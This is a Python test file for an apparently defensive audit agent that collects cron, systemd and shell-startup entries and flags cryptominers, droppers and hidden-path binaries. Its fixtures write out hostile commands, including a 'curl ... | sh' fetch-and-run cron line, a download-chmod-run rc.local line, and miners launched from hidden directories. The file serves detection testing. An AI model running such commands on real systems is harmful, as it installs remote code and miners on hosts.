"""Persistence: the collector reads a fake root; the detector turns miner, dropper and hidden-path lines into findings."""
from __future__ import annotations

import os
from pathlib import Path

import pytest

from audit_agent.collect import CollectOptions
from audit_agent.collect import persistence as collector
from audit_agent.collect.persistence import fs, shell
from audit_agent.detect import Context
from audit_agent.detect import persistence as detector
from audit_agent.evaluate import evaluate
from audit_agent.model import (
    CoverageStatus,
    PersistenceEntry,
    ProcessInfo,
    Severity,
    Snapshot,
)
from tests.factories import write_file as write


def miner_command(rules) -> str:
    """A real miner command line taken from the pack's own examples (a high-severity cmdline rule)."""
    for rule in rules.pack.by_kind("cmdline"):
        if rule.severity.rank >= Severity.HIGH.rank and "stratum" in rule.examples_match[0]:
            return rule.examples_match[0]
    pytest.skip("the rule pack has no high-severity stratum example")


def pool_domain(rules) -> str:
    for domain, (_, entry) in sorted(rules.domain_suffix.items()):
        if entry.type == "pool" and entry.status == "active":
            return domain
    pytest.skip("the rule pack lists no active pool domain")


def findings_for(entries: list[PersistenceEntry], rules, processes: list[ProcessInfo] | None = None):
    report = evaluate(Snapshot(persistence=entries, processes=processes or []), rules)
    return report.findings


def entries_from(root: Path) -> list[PersistenceEntry]:
    return collector.read_persistence(root / "etc").entries


# ---------------------------------------------------------------- collector

@pytest.fixture
def fake_root(tmp_path: Path) -> Path:
    root = tmp_path / "root"
    write(root / "etc/crontab", "SHELL=/bin/sh\nPATH=/usr/bin:/bin\n# m h dom mon dow user command\n"
          "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n\n")
    write(root / "etc/cron.d/certbot",
          "0 */12 * * * root test -x /usr/bin/certbot && perl -e 'sleep int(rand(43200))' && certbot -q renew\n")
    write(root / "etc/cron.daily/logrotate", "#!/bin/sh\n# rotate\nset -e\nCONF=/etc/logrotate.conf\n"
          "V=$(curl -s http://10.0.0.1/v)\n{\n/usr/sbin/logrotate /etc/logrotate.conf\n}\nexit 0\n")
    write(root / "var/spool/cron/crontabs/bob", "# DO NOT EDIT\n30 2 * * * /home/bob/bin/backup.sh --to /srv/b\n")
    write(root / "var/spool/cron/alice", "@daily /usr/bin/rsync -a /home/alice/ /backup/alice/\n")   # RHEL spool
    write(root / "etc/systemd/system/web.service",
          "[Unit]\nDescription=web\n[Service]\nExecStartPre=/usr/bin/mkdir -p /run/web\n"
          "ExecStart=/usr/bin/gunicorn \\\n    --workers 4 app:app\nRestart=always\n")
    write(root / "etc/systemd/system/web.timer", "[Timer]\nOnCalendar=daily\nUnit=web.service\n")
    wants = root / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir(parents=True)
    os.symlink(root / "etc/systemd/system/web.service", wants / "web.service")
    write(root / "usr/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n")
    write(root / "usr/lib/systemd/system/ssh.socket", "[Socket]\nListenStream=22\n")
    write(root / "home/carol/.config/systemd/user/notebook.service",
          "[Service]\nExecStart=/home/carol/.local/bin/jupyter lab --no-browser\n")
    write(root / "etc/rc.local", "#!/bin/sh -e\n/usr/local/bin/fan-control --quiet\nexit 0\n")
    write(root / "etc/profile.d/modules.sh", "alias ml=module\nexport MODULEPATH=/opt/modules\n"
          "if [ -f /etc/bashrc ]; then . /etc/bashrc; fi\n")
    write(root / "home/carol/.bashrc", "alias ll='ls -l'\nexport PS1='$ '\n"
          "nohup /home/carol/bin/agent >/dev/null 2>&1 &\n")
    return root


def test_collector_keeps_only_lines_that_start_something(fake_root: Path):
    entries = entries_from(fake_root)
    by_file = {}
    for entry in entries:
        by_file.setdefault(Path(entry.path).relative_to(fake_root).as_posix(), []).append(entry)

    crontab = by_file["etc/crontab"]
    assert [(e.line, e.user) for e in crontab] == [(4, "root")]          # env and comment lines dropped
    assert by_file["etc/cron.d/certbot"][0].user == "root"
    assert [e.text for e in by_file["etc/cron.daily/logrotate"]] == [      # shell furniture dropped
        "V=$(curl -s http://10.0.0.1/v)", "/usr/sbin/logrotate /etc/logrotate.conf"]
    assert by_file["var/spool/cron/crontabs/bob"][0].user == "bob"
    assert by_file["var/spool/cron/alice"][0].user == "alice"
    assert all(e.kind == "cron" for e in crontab + by_file["var/spool/cron/alice"])

    web = by_file["etc/systemd/system/web.service"]
    assert [e.text for e in web] == ["ExecStartPre=/usr/bin/mkdir -p /run/web",
                                     "ExecStart=/usr/bin/gunicorn --workers 4 app:app"]   # continuation joined
    assert web[1].line == 5 and web[0].kind == "systemd"
    assert [e.text for e in by_file["etc/systemd/system/web.timer"]] == ["OnCalendar=daily", "Unit=web.service"]
    assert "etc/systemd/system/multi-user.target.wants/web.service" not in by_file   # read once, not twice
    assert by_file["usr/lib/systemd/system/ssh.service"][0].text.startswith("ExecStart=/usr/sbin/sshd")
    assert "usr/lib/systemd/system/ssh.socket" not in by_file
    assert by_file["home/carol/.config/systemd/user/notebook.service"][0].user == "carol"

    assert [e.text for e in by_file["etc/rc.local"]] == ["/usr/local/bin/fan-control --quiet"]   # no "exit 0"
    assert "etc/profile.d/modules.sh" not in by_file                     # shell furniture only
    bashrc = by_file["home/carol/.bashrc"]
    assert [e.text for e in bashrc] == ["nohup /home/carol/bin/agent >/dev/null 2>&1 &"]
    assert bashrc[0].user == "carol" and bashrc[0].kind == "profile"


def test_collect_persistence_fills_the_snapshot_and_reports_ok(fake_root: Path):
    snapshot = Snapshot()
    coverage = collector.collect_persistence(snapshot, CollectOptions(etc_root=str(fake_root / "etc")))
    assert [c.check for c in coverage] == ["persistence"]
    assert coverage[0].status == CoverageStatus.OK and coverage[0].inspected >= 12
    assert snapshot.persistence and all(e.path.startswith(str(fake_root)) for e in snapshot.persistence)


def test_unreadable_file_is_counted_not_raised(fake_root: Path, mocker):
    denied = str(fake_root / "var/spool/cron/crontabs/bob")
    real = fs.read_fd

    def deny_one(fd, limit):
        if os.readlink(f"/proc/self/fd/{fd}") == denied:
            raise PermissionError(13, "Permission denied")
        return real(fd, limit)

    mocker.patch.object(fs, "read_fd", side_effect=deny_one)
    snapshot = Snapshot()
    [coverage] = collector.collect_persistence(snapshot, CollectOptions(etc_root=str(fake_root / "etc")))
    assert coverage.status == CoverageStatus.PARTIAL
    assert coverage.denied == 1 and denied in coverage.reason
    assert not any(e.path == denied for e in snapshot.persistence)
    assert any(e.path.endswith("var/spool/cron/alice") for e in snapshot.persistence)


def test_missing_root_is_skipped(tmp_path: Path):
    [coverage] = collector.collect_persistence(Snapshot(), CollectOptions(etc_root=str(tmp_path / "nope")))
    assert coverage.status == CoverageStatus.SKIPPED


def test_reading_is_bounded(tmp_path: Path):
    root = tmp_path / "root"
    write(root / "etc/cron.d/big", "".join(f"{i % 60} * * * * root /usr/bin/true {i}\n" for i in range(5000)))
    for i in range(5):
        write(root / f"etc/cron.d/job{i}", "@daily root /usr/bin/true\n")
    out = collector.read_persistence(root / "etc", system_limits=fs.Limits(files=3, bytes=1 << 20, seconds=60,
                                                                            names=1000))
    coverage = collector.persistence_coverage(out)
    assert coverage.status == CoverageStatus.PARTIAL
    system = out.scopes[0]
    assert system.name == "system" and system.files == 3 and system.skipped.count == 3
    assert len([e for e in out.entries if e.path.endswith("/big")]) <= 500
    assert "limit of 3 files reached" in coverage.reason and "read only in part" in coverage.reason


# ---------------------------------------------------------------- detection

def test_crontab_starting_a_miner_is_high(tmp_path: Path, compiled_rules):
    command = miner_command(compiled_rules)
    write(tmp_path / "root/etc/crontab", f"@reboot root /tmp/.x/{command}\n")
    write(tmp_path / "root/var/spool/cron/crontabs/eve", f"@reboot {command}\n")
    findings = findings_for(entries_from(tmp_path / "root"), compiled_rules)
    assert len(findings) == 2
    for finding in findings:
        assert finding.subject.kind == "persistence"
        assert finding.severity.rank >= Severity.HIGH.rank
        assert finding.category in ("miner", "persistence", "network", "stealth")
        assert all(e.field == "persistence" for e in finding.evidence)
    eve = next(f for f in findings if f.subject.path.endswith("/eve"))
    assert eve.subject.username == "eve"
    assert any("cron job" in reason for reason in eve.reasons)


def test_pool_domain_alone_in_a_unit_is_found(tmp_path: Path, compiled_rules):
    domain = pool_domain(compiled_rules)
    write(tmp_path / "root/etc/systemd/system/sysupd.service",
          f"[Service]\nExecStart=/usr/local/bin/sysupd --host xmr.{domain}:3333\n")
    [finding] = findings_for(entries_from(tmp_path / "root"), compiled_rules)
    assert finding.subject.path.endswith("sysupd.service")
    assert any(domain in e.matched for e in finding.evidence)


def test_dropper_cron_is_a_finding(tmp_path: Path, compiled_rules):
    write(tmp_path / "root/var/spool/cron/crontabs/www-data", "*/5 * * * * curl -fsSL http://1.2.3.4/x.sh | sh\n")
    [finding] = findings_for(entries_from(tmp_path / "root"), compiled_rules)
    assert finding.severity.rank >= Severity.MEDIUM.rank
    assert finding.subject.username == "www-data"
    assert any("1.2.3.4" in e.value for e in finding.evidence)


def test_coded_dropper_check_catches_download_then_run(compiled_rules):
    command = "curl -s -o /var/tmp/u http://10.9.8.7/u; chmod +x /var/tmp/u; /var/tmp/u"
    entry = PersistenceEntry(path="/etc/rc.local", kind="rc", line=3, text=command, user="root")
    signals = detector.entry_signals(entry, compiled_rules)
    assert signals, "a download saved and then run must be a reason"
    assert {s.subject_key for s in signals} == {"file:/etc/rc.local"}
    assert shell.saved_then_run("curl -o /srv/a.tgz https://example.org/a.tgz && tar xzf /srv/a.tgz") is None


def test_systemd_unit_running_a_kernel_thread_name_from_a_hidden_path(tmp_path: Path, compiled_rules):
    write(tmp_path / "root/etc/systemd/system/kthreadd.service",
          "[Service]\nExecStart=/opt/.cache/kthreadd -c /opt/.cache/c.json\nRestart=always\n")
    [finding] = findings_for(entries_from(tmp_path / "root"), compiled_rules)
    assert finding.severity.rank >= Severity.HIGH.rank
    assert finding.subject.exe == "/opt/.cache/kthreadd"
    assert {detector.RULE_KERNEL_NAME, detector.RULE_HIDDEN_PATH} <= set(finding.rule_ids)


def test_running_process_started_by_the_entry_gets_the_reason(tmp_path: Path, compiled_rules):
    write(tmp_path / "root/etc/systemd/system/kthreadd.service",
          "[Service]\nExecStart=/opt/.cache/kthreadd -c /opt/.cache/c.json\n")
    proc = ProcessInfo(pid=4242, name="kthreadd", exe="/opt/.cache/kthreadd",
                       cmdline=["/opt/.cache/kthreadd", "-c", "/opt/.cache/c.json"], username="root")
    other = ProcessInfo(pid=77, name="sshd", exe="/usr/sbin/sshd", cmdline=["/usr/sbin/sshd", "-D"])
    findings = findings_for(entries_from(tmp_path / "root"), compiled_rules, [proc, other])
    by_kind = {f.subject.kind: f for f in findings}
    assert set(by_kind) == {"persistence", "process"}
    process_finding = by_kind["process"]
    assert process_finding.subject.pid == 4242
    assert detector.RULE_RUNNING in process_finding.rule_ids
    assert any("kthreadd.service:2" in reason for reason in process_finding.reasons)


def test_benign_crons_and_units_are_quiet(fake_root: Path, compiled_rules):
    write(fake_root / "etc/cron.d/backup", "0 3 * * * root /usr/local/sbin/backup.sh --target /srv/backup\n"
          "0 * * * * root /usr/bin/curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/5a3b\n")
    write(fake_root / "etc/cron.d/sysstat", "*/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\n")
    write(fake_root / "var/spool/cron/crontabs/dave",
          "@reboot /home/dave/.local/bin/jupyter lab --no-browser --port 8888\n"
          "0 1 * * * cd /home/dave/proj && /home/dave/.conda/envs/ml/bin/python train.py --epochs 10\n")
    entries = entries_from(fake_root)
    assert len(entries) >= 12
    assert findings_for(entries, compiled_rules) == []


def test_killing_a_competitor_is_not_starting_a_miner(compiled_rules):
    entry = PersistenceEntry(path="/etc/cron.d/clean", kind="cron", line=1, text="* * * * * root pkill -f xmrig",
                             user="root")
    assert not [s for s in detector.entry_signals(entry, compiled_rules) if s.rule_id.startswith("AA-NAME")]


@pytest.mark.parametrize("command, expected", [
    ("nohup sh -c '/tmp/.x/run -o x' >/dev/null 2>&1 &", [["/tmp/.x/run", "-o", "x"]]),
    ("sudo -u bob env A=1 nice -n 19 /srv/x/y --flag", [["/srv/x/y", "--flag"]]),
    ("cd /tmp && ./kswapd0 -B; rm -f /tmp/k", [["cd", "/tmp"], ["./kswapd0", "-B"], ["rm", "-f", "/tmp/k"]]),
    ("bash /dev/shm/.s/start.sh", [["/dev/shm/.s/start.sh"]]),
    ("echo 'unbalanced", [["echo", "'unbalanced"]]),
])
def test_programs_peels_wrappers(command, expected):
    assert detector.programs(command) == expected


def test_cron_user_field_and_exec_prefixes_are_stripped():
    system = PersistenceEntry(path="/etc/cron.d/x", kind="cron", line=1, text="*/5 * * * * root /opt/a -b", user="root")
    user = PersistenceEntry(path="/var/spool/cron/crontabs/root", kind="cron", line=1, text="@reboot root-tool",
                            user="root")
    unit = PersistenceEntry(path="/etc/systemd/system/a.service", kind="systemd", line=1,
                            text="ExecStart=-@/opt/a a-name --x")
    assert detector.command_of(system) == "/opt/a -b"
    assert detector.command_of(user) == "root-tool"
    assert detector.command_of(unit) == "/opt/a a-name --x"


def test_hostile_text_is_capped_and_escaped(compiled_rules):
    text = "@reboot /tmp/.x/\x1b[31mxmrig " + "A" * 20000 + " \u202e"
    entry = PersistenceEntry(path="/var/spool/cron/crontabs/x", kind="cron", line=1, text=text, user="x")
    [finding] = findings_for([entry], compiled_rules)
    for evidence in finding.evidence:
        assert len(evidence.value) < 400 and "\x1b" not in evidence.value
    assert all(len(reason) < 1200 and "\x1b" not in reason for reason in finding.reasons)
    assert "\x1b" not in finding.subject.cmdline and len(finding.subject.cmdline) < 2100


def test_detector_does_no_io(compiled_rules, mocker):
    opened = mocker.patch("builtins.open", side_effect=AssertionError("detect/* must not do I/O"))
    entry = PersistenceEntry(path="/etc/crontab", kind="cron", line=1, text="@reboot root /tmp/.x/xmrig", user="root")
    from audit_agent.policy import Policy
    detector.signals(Context.build(Snapshot(persistence=[entry]), compiled_rules, Policy()))
    opened.assert_not_called()


# ---------------------------------------------------------------- the real agent, pointed at a fake root

@pytest.mark.e2e
def test_agent_scan_reports_crontab_and_unit_from_a_fake_root(tmp_path: Path, agent, compiled_rules):
    import json
    root = tmp_path / "root"
    write(root / "etc/cron.d/sysupdate", f"@reboot root /var/tmp/.sys/{miner_command(compiled_rules)}\n")
    write(root / "etc/systemd/system/kthreadd.service", "[Service]\nExecStart=/opt/.cache/kthreadd -c /opt/.cache/c.json\n")
    write(root / "etc/cron.daily/logrotate", "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n")
    out = tmp_path / "report.json"
    result = agent("scan", "--window", "0", "--etc-root", str(root / "etc"), "--json", str(out), "--quiet",
                   "--fail-on", "high")
    assert result.returncode == 1, result.stderr
    report = json.loads(out.read_text())
    persistence = {Path(f["subject"]["path"]).name: f for f in report["findings"] if f["subject"]["kind"] == "persistence"}
    assert set(persistence) == {"sysupdate", "kthreadd.service"}
    assert all(f["severity"] in ("high", "critical") for f in persistence.values())
    assert any(c["check"] == "persistence" and c["status"] == "ok" for c in report["coverage"])


# ---------------------------------------------------------------- safe opening, symlinks, unlistable folders

as_root = pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs root to chown files")


def coverage_of(root: Path):
    snapshot = Snapshot()
    [coverage] = collector.collect_persistence(snapshot, CollectOptions(etc_root=str(root / "etc")))
    return snapshot, coverage


def test_bashrc_swapped_for_a_fifo_between_checks_does_not_hang_the_agent(fake_root: Path, mocker):
    """The FIFO appears after any stat of the path (simulated: stat lies): the read must still not block."""
    import threading

    fifo = fake_root / "home/dave/.bashrc"
    fifo.parent.mkdir(parents=True)
    os.mkfifo(fifo)
    real_stat = os.stat
    regular = real_stat(fake_root / "etc/crontab")

    def lying_stat(path, *args, **kwargs):
        return regular if os.fspath(path) == str(fifo) else real_stat(path, *args, **kwargs)

    mocker.patch("os.stat", side_effect=lying_stat)
    result: list = []
    worker = threading.Thread(target=lambda: result.append(coverage_of(fake_root)), daemon=True)
    worker.start()
    worker.join(timeout=10)
    if worker.is_alive():           # release the blocked open so the test run can go on
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        worker.join(timeout=5)
        pytest.fail("the collector blocked opening a FIFO")
    snapshot, _coverage = result[0]
    assert not any(e.path == str(fifo) for e in snapshot.persistence)
    assert any(e.path.endswith("home/carol/.bashrc") for e in snapshot.persistence)


@as_root
def test_a_home_dotfile_symlinked_to_a_root_only_file_is_not_read(fake_root: Path, tmp_path: Path):
    secret = write(tmp_path / "secret/root-only.sh", "nohup /opt/root-secret/run-backup --key s3cr3t &\n")
    secret.chmod(0o600)                                         # owned by root
    unit = write(tmp_path / "secret/units/root.service", "[Service]\nExecStart=/opt/root-secret/daemon\n")
    unit.chmod(0o600)
    home = fake_root / "home/mallory"
    home.mkdir()
    os.chown(home, 1000, 1000)
    (home / ".bashrc").symlink_to(secret)                       # ~/.bashrc -> a root-only file
    (home / ".config").mkdir()
    (home / ".config/systemd").symlink_to(tmp_path / "secret")  # a linked directory on the way
    os.makedirs(tmp_path / "secret/user", exist_ok=True)
    os.symlink(unit, tmp_path / "secret/user/root.service")
    dotfiles = write(home / "dotfiles/profile", "nohup /home/mallory/bin/sync &\n")   # stow-style, her own
    os.chown(dotfiles, 1000, 1000)
    (home / ".profile").symlink_to(dotfiles)

    snapshot, coverage = coverage_of(fake_root)
    texts = [e.text for e in snapshot.persistence]
    assert not any("root-secret" in t for t in texts)
    assert "nohup /home/mallory/bin/sync &" in texts            # a linked dotfile she owns is still read
    assert coverage.status == CoverageStatus.PARTIAL and "symlink(s) not followed" in coverage.reason
    assert str(home / ".bashrc") in coverage.reason


@as_root
def test_system_unit_symlinks_are_followed_only_to_root_owned_files(fake_root: Path, tmp_path: Path):
    vendor = write(fake_root / "opt/vendor/agent.service", "[Service]\nExecStart=/opt/vendor/bin/agent\n")
    os.symlink(vendor, fake_root / "etc/systemd/system/agent.service")     # a linked unit: read
    foreign = write(tmp_path / "user-owned.service", "[Service]\nExecStart=/home/x/evil\n")
    os.chown(foreign, 1000, 1000)
    os.symlink(foreign, fake_root / "etc/systemd/system/foreign.service")
    writable = write(tmp_path / "world.service", "[Service]\nExecStart=/tmp/anyone\n")
    writable.chmod(0o666)
    os.symlink(writable, fake_root / "etc/systemd/system/world.service")

    snapshot, coverage = coverage_of(fake_root)
    texts = [e.text for e in snapshot.persistence]
    assert "ExecStart=/opt/vendor/bin/agent" in texts
    assert "ExecStart=/home/x/evil" not in texts and "ExecStart=/tmp/anyone" not in texts
    assert coverage.status == CoverageStatus.PARTIAL and "2 symlink(s) not followed" in coverage.reason


def test_a_device_in_place_of_a_crontab_is_never_opened_for_reading(fake_root: Path, mocker):
    os.symlink("/dev/null", fake_root / "etc/cron.d/zz-null")
    calls: list[tuple[str, int]] = []
    real_open = os.open

    def record(path, flags, *args, **kwargs):
        calls.append((os.fsdecode(path), flags))
        return real_open(path, flags, *args, **kwargs)

    mocker.patch("os.open", side_effect=record)
    coverage_of(fake_root)
    o_path = getattr(os, "O_PATH", 0)
    assert not [f for p, f in calls if p.endswith("zz-null") and not (o_path and f & o_path)]


def test_folders_that_cannot_be_listed_are_counted_as_denied(fake_root: Path, mocker):
    """/var/spool/cron/crontabs, /home and a systemd folder the agent may not list: partial, never ok."""
    denied_dirs = {str(fake_root / "var/spool/cron/crontabs"), str(fake_root / "home/carol/.config/systemd/user"),
                   str(fake_root / "etc/systemd/system")}
    real_scandir = os.scandir

    def scandir(path="."):
        shown = os.readlink(f"/proc/self/fd/{path}") if isinstance(path, int) else os.fspath(path)
        if shown in denied_dirs:
            raise PermissionError(13, "Permission denied", shown)
        return real_scandir(path)

    mocker.patch("os.scandir", side_effect=scandir)
    snapshot, coverage = coverage_of(fake_root)
    assert coverage.status == CoverageStatus.PARTIAL
    assert coverage.denied == 3
    for path in denied_dirs:
        assert path in coverage.reason
    assert not any("crontabs/bob" in e.path or "web.service" in e.path or "notebook" in e.path
                   for e in snapshot.persistence)
    assert any(e.path.endswith("home/carol/.bashrc") for e in snapshot.persistence)    # read by name: not lost


class _AlwaysQuoted:
    def isdisjoint(self, _text):
        return False


@pytest.mark.parametrize("segment", [
    "/usr/bin/foo --bar=1 baz", "  ExecStart=/x\t-y  ", "a\x0bb c\xa0d\u3000e", "x\x1cy #not-a-comment $HOME ~/z",
    "", " \t\r\n", "echo 'a b' \"c d\" e\\ f", "unbalanced 'quote here", "a >/dev/null 2>&1 < in",
])
def test_shell_words_are_the_same_as_through_shlex(segment, monkeypatch):
    """Lines with nothing to unquote skip shlex; the words are the same as shlex's (its blanks only)."""
    words = shell.split_words(segment)
    monkeypatch.setattr(shell, "QUOTING", _AlwaysQuoted())
    assert words == shell.split_words(segment)
